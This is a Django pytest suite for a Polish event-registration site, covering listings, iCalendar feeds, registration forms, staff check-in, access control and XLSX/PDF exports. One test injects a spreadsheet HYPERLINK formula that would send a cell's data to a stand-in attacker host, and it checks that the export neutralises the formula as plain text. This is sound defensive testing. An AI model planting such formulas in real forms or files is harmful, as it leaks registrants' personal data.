import datetime
import io

import icalendar
import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from partnerstwa.activities.models import Attendance, Registration, Session
from partnerstwa.activities.services import event_cancel
from partnerstwa.activities.tests.factories import (
    WARSAW,
    event,
    register,
    register_through_the_form,
)
from partnerstwa.registry.tests.factories import OrganisationFactory, gmina

pytestmark = pytest.mark.django_db


@pytest.fixture
def calendar():
    poznan = gmina("3064011", "Poznań")
    now = timezone.now()
    return {
        "training": event(
            title="Szkolenie w Poznaniu", kind="training", venue_unit=poznan, capacity=20
        ),
        "conference": event(
            title="Kongres", kind="congress", starts_at=now + datetime.timedelta(days=30)
        ),
        "past": event(
            title="Dawna konferencja",
            kind="conference",
            starts_at=now - datetime.timedelta(days=40),
        ),
        "draft": event(title="Szkic", status="draft"),
    }


def titles(response):
    return [event.title for event in response.context["page"].object_list]


def test_the_list_shows_upcoming_published_events_and_the_past_on_request(client, calendar):
    assert titles(client.get("/wydarzenia/")) == ["Szkolenie w Poznaniu", "Kongres"]
    assert titles(client.get("/wydarzenia/", {"kiedy": "minione"})) == ["Dawna konferencja"]


def test_the_list_filters_by_kind_and_voivodeship(client, calendar):
    assert titles(client.get("/wydarzenia/", {"rodzaj": "congress"})) == ["Kongres"]
    assert titles(client.get("/wydarzenia/", {"wojewodztwo": "30"})) == ["Szkolenie w Poznaniu"]


def test_a_draft_is_not_public(client, calendar):
    assert (
        client.get(reverse("activities:detail", args=[calendar["draft"].slug])).status_code == 404
    )


def test_the_month_view_shows_an_event_on_every_day_it_spans(client):
    start = datetime.datetime(2027, 3, 30, 9, 0, tzinfo=WARSAW)
    event(
        title="Wizyta studyjna",
        kind="study_visit",
        starts_at=start,
        ends_at=start + datetime.timedelta(days=3),
    )
    march = client.get(reverse("activities:month", args=[2027, 3]))
    days = {
        day.date.day: [e.title for e in day.events]
        for week in march.context["weeks"]
        for day in week
        if day.in_month
    }
    assert days[30] == days[31] == ["Wizyta studyjna"] and days[29] == []
    april = client.get(reverse("activities:month", args=[2027, 4]))
    april_days = {
        day.date.day: day.events for week in april.context["weeks"] for day in week if day.in_month
    }
    assert len(april_days[2]) == 1 and not april_days[3]
    assert client.get(reverse("activities:month", args=[2027, 13])).status_code == 404


def test_the_event_page_shows_free_seats_and_the_registration_form(client, calendar):
    register(calendar["training"], 1)
    content = client.get(
        reverse("activities:detail", args=[calendar["training"].slug])
    ).content.decode()
    assert "Liczba miejsc</dt><dd>20</dd>" in content and "Wolne miejsca</dt><dd>19</dd>" in content
    assert 'action="/wydarzenia/' in content and "csrfmiddlewaretoken" in content


def test_registering_through_the_form(client, calendar, django_capture_on_commit_callbacks):
    OrganisationFactory(name="Urząd Miasta Poznania")
    data = {
        "first_name": "Jan",
        "last_name": "Kowalski",
        "email": "jan@example.org",
        "organisation": "urząd miasta  poznania",
        "language": "pl",
        "consent": "on",
    }
    register_through_the_form(
        client, calendar["training"], data, django_capture_on_commit_callbacks
    )
    registration = Registration.objects.get()
    assert (
        registration.organisation.name == "Urząd Miasta Poznania" and not registration.needs_review
    )
    assert registration.consent_text.startswith("Wyrażam zgodę")
    assert registration.consent_given_at is not None
    assert [message.to for message in mail.outbox] == [["jan@example.org"]] * 2
    assert mail.outbox[1].subject.startswith("Zgłoszenie potwierdzone")


def test_a_typed_organisation_is_kept_and_flagged_for_review(
    client, calendar, django_capture_on_commit_callbacks
):
    register_through_the_form(
        client,
        calendar["training"],
        {
            "first_name": "Jan",
            "last_name": "K",
            "email": "j@example.org",
            "organisation": "Nowa Fundacja",
            "language": "pl",
            "consent": "on",
        },
        django_capture_on_commit_callbacks,
    )
    registration = Registration.objects.get()
    assert registration.organisation is None and registration.organisation_name == "Nowa Fundacja"
    assert registration.needs_review


def test_the_form_refuses_missing_consent_and_bad_email_in_polish(client, calendar):
    response = client.post(
        reverse("activities:register", args=[calendar["training"].slug]),
        {"first_name": "Jan", "last_name": "K", "email": "nie-email", "language": "pl"},
    )
    assert response.status_code == 400
    content = response.content.decode()
    assert "Wprowadź poprawny adres email." in content and "To pole jest wymagane." in content
    assert not Registration.objects.exists()


def test_the_registration_form_is_rate_limited(client, calendar, settings):
    settings.REGISTRATION_RATE = "3/h"
    url = reverse("activities:register", args=[calendar["training"].slug])
    codes = [client.post(url, {"first_name": "x"}).status_code for _ in range(4)]
    assert codes == [400, 400, 400, 429]


def test_organisation_suggestions_for_the_form(client, calendar):
    OrganisationFactory(name="Gmina Brwinów")
    response = client.get(reverse("activities:organisation_options"), {"organisation": "brwi"})
    assert '<option value="Gmina Brwinów">' in response.content.decode()


def test_the_calendar_feed_accepts_the_list_filters_and_marks_cancellations(client, calendar):
    event_cancel(event=calendar["conference"])
    response = client.get("/wydarzenia.ics")
    assert response["Content-Type"].startswith("text/calendar")
    feed = icalendar.Calendar.from_ical(response.content)
    events = {str(component["SUMMARY"]): component for component in feed.walk("VEVENT")}
    assert set(events) == {"Szkolenie w Poznaniu", "Kongres", "Dawna konferencja"}
    assert (
        str(events["Kongres"]["STATUS"]) == "CANCELLED" and int(events["Kongres"]["SEQUENCE"]) == 1
    )
    assert str(events["Kongres"]["URL"]).endswith(f"/wydarzenia/{calendar['conference'].slug}/")
    filtered = icalendar.Calendar.from_ical(
        client.get("/wydarzenia.ics", {"rodzaj": "congress"}).content
    )
    assert [str(c["SUMMARY"]) for c in filtered.walk("VEVENT")] == ["Kongres"]
    single = icalendar.Calendar.from_ical(
        client.get(f"/wydarzenia/{calendar['training'].slug}.ics").content
    )
    assert len(single.walk("VEVENT")) == 1 and single.walk("VTIMEZONE")


@pytest.mark.parametrize(
    "url", ["/wydarzenia/", "/wydarzenia.ics", "/wydarzenia/kalendarz/2027/3/"]
)
def test_event_lists_make_a_constant_number_of_queries(client, url):
    def count():
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        return len(queries.captured_queries)

    event(starts_at=datetime.datetime(2027, 3, 2, 9, tzinfo=WARSAW))
    few = count()
    for day in range(3, 20):
        event(
            starts_at=datetime.datetime(2027, 3, day, 9, tzinfo=WARSAW),
            venue_unit=gmina("3064011", "Poznań"),
        )
    assert count() <= few


# Staff pages


@pytest.fixture
def staffed(calendar):
    training = calendar["training"]
    registrations = [
        register(training, n, organisation=OrganisationFactory(name=f"Gmina {n}")) for n in range(3)
    ]
    return training, registrations


def test_check_in_toggles_with_htmx_and_without_javascript(admin_client, staffed):
    training, registrations = staffed
    url = reverse("activities:staff_checkin", args=[training.slug, 1])
    person = registrations[0].person
    htmx = admin_client.post(url, {"person": person.pk}, HTTP_HX_REQUEST="true")
    assert htmx.status_code == 200 and 'aria-pressed="true"' in htmx.content.decode()
    assert htmx.content.decode().lstrip().startswith("<li")
    assert Attendance.objects.filter(person=person).count() == 1
    plain = admin_client.post(url, {"person": person.pk})
    assert plain.status_code == 302 and plain["Location"].endswith(f"#osoba-{person.pk}")
    assert not Attendance.objects.exists()
    searched = admin_client.post(url, {"person": person.pk, "q": " Gmina 0 & #1 "})
    assert searched["Location"].endswith(f"?q=Gmina+0+%26+%231#osoba-{person.pk}")


def test_check_in_search_finds_by_name_or_organisation(admin_client, staffed):
    training, _registrations = staffed
    url = reverse("activities:staff_checkin", args=[training.slug, 1])
    assert [r.last_name for r in admin_client.get(url, {"q": "Nowak1"}).context["rows"]] == [
        "Nowak1"
    ]
    assert [r.last_name for r in admin_client.get(url, {"q": "Gmina 2"}).context["rows"]] == [
        "Nowak2"
    ]


def test_check_in_refuses_someone_not_registered(admin_client, staffed):
    training, _registrations = staffed
    stranger = register(event(), 99).person
    response = admin_client.post(
        reverse("activities:staff_checkin", args=[training.slug, 1]), {"person": stranger.pk}
    )
    assert response.status_code == 404


def test_staff_pages_are_closed_to_coordinators_and_visitors(client, staffed):
    training, _registrations = staffed
    user = get_user_model().objects.create_user("koordynator", password="x")
    urls = [
        reverse("activities:staff_event", args=[training.slug]),
        reverse("activities:staff_checkin", args=[training.slug, 1]),
        reverse("activities:staff_registrations_xlsx", args=[training.slug]),
        reverse("activities:staff_attendance_xlsx", args=[training.slug]),
        reverse("activities:staff_signature_list", args=[training.slug, 1]),
    ]
    for visitor in (None, user):
        if visitor:
            client.force_login(visitor)
        for url in urls:
            response = client.get(url)
            assert response.status_code == 302 and "/admin/login/" in response["Location"], url
    for url in [
        reverse("activities:staff_send_evaluations", args=[training.slug]),
        reverse("activities:staff_issue_certificates", args=[training.slug]),
    ]:
        assert client.post(url).status_code == 302


def test_the_registration_export_holds_every_registration(admin_client, staffed):
    training, _registrations = staffed
    response = admin_client.get(
        reverse("activities:staff_registrations_xlsx", args=[training.slug])
    )
    rows = list(
        openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
    )
    assert rows[0][1:4] == ("Imię", "Nazwisko", "E-mail")
    assert [row[2] for row in rows[1:]] == ["Nowak0", "Nowak1", "Nowak2"]
    assert rows[1][5] == "Gmina 0" and rows[1][9] == "potwierdzone"


def test_the_attendance_export_has_a_column_per_session(admin_client, staffed):
    training, registrations = staffed
    first = training.sessions.get()
    second = Session.objects.create(
        event=training, number=2, starts_at=first.starts_at, ends_at=first.ends_at
    )
    Attendance.objects.create(session=second, person=registrations[1].person, method="check_in")
    response = admin_client.get(reverse("activities:staff_attendance_xlsx", args=[training.slug]))
    rows = list(
        openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
    )
    assert len(rows[0]) == 6 and rows[0][5] == "Przykład ilustracyjny"
    assert rows[1][:3] == ("Anna", "Nowak1", registrations[1].email) and rows[1][3:] == (
        None,
        "obecność potwierdzona",
        None,
    )


def test_the_signature_list_is_a_pdf(admin_client, staffed):
    training, _registrations = staffed
    response = admin_client.get(reverse("activities:staff_signature_list", args=[training.slug, 1]))
    assert response["Content-Type"] == "application/pdf" and response.content.startswith(b"%PDF-")


def test_a_staff_account_without_the_permission_cannot_read_registrations(client, staffed):
    training, _registrations = staffed
    clerk = get_user_model().objects.create_user("sekretariat", password="x", is_staff=True)
    client.force_login(clerk)
    for url in [
        reverse("activities:staff_event", args=[training.slug]),
        reverse("activities:staff_registrations_xlsx", args=[training.slug]),
        reverse("activities:staff_checkin", args=[training.slug, 1]),
    ]:
        assert client.get(url).status_code == 403, url


def test_a_formula_typed_in_the_public_form_stays_text_in_the_export(admin_client, calendar):
    register(calendar["training"], 1, first_name='=HYPERLINK("http://zly.example/?x="&D2,"Otwórz")')
    response = admin_client.get(
        reverse("activities:staff_registrations_xlsx", args=[calendar["training"].slug])
    )
    cell = openpyxl.load_workbook(io.BytesIO(response.content)).active["B2"]
    assert cell.data_type == "s"
    assert cell.value == '=HYPERLINK("http://zly.example/?x="&D2,"Otwórz")'


def test_a_registration_naming_an_ambiguous_organisation_is_flagged_for_review(
    client, calendar, django_capture_on_commit_callbacks
):
    OrganisationFactory(name="Gmina Świdnica")
    OrganisationFactory(name="Gmina Świdnica")
    register_through_the_form(
        client,
        calendar["training"],
        {
            "first_name": "Jan",
            "last_name": "K",
            "email": "j@example.org",
            "organisation": "GMINA ŚWIDNICA",
            "language": "pl",
            "consent": "on",
        },
        django_capture_on_commit_callbacks,
    )
    registration = Registration.objects.get()
    assert registration.organisation is None and registration.needs_review
